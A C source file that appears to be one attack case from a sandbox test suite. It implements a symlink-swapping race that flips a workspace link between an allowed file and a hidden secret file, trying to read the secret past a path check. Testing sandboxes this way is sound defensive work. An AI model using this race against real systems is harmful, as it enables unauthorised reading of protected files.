#include "attack.h"
// A link in the workspace points to an allowed file for the check and to the hidden one for the use.
static volatile bool stop;
static void *flip(void *x) {
  char *link = path(arg("work"), "flip"), *next = path(arg("work"), "next");
  for (int i = 0; !stop; i++) {
    symlink(i & 1 ? arg("secret") : arg("rofile"), next);
    rename(next, link);
  }
  return x;
}
ATTACK(.judge = "secret:file") {
  pthread_t t;
  char *link = path(arg("work"), "flip");
  pthread_create(&t, NULL, flip, NULL);
  for (double end = now() + 0.6; now() < end;) {
    int fd = open(link, O_RDONLY | O_CLOEXEC);
    if (glimpse(fd)) break;
  }
  stop = true;
  pthread_join(t, NULL);
}
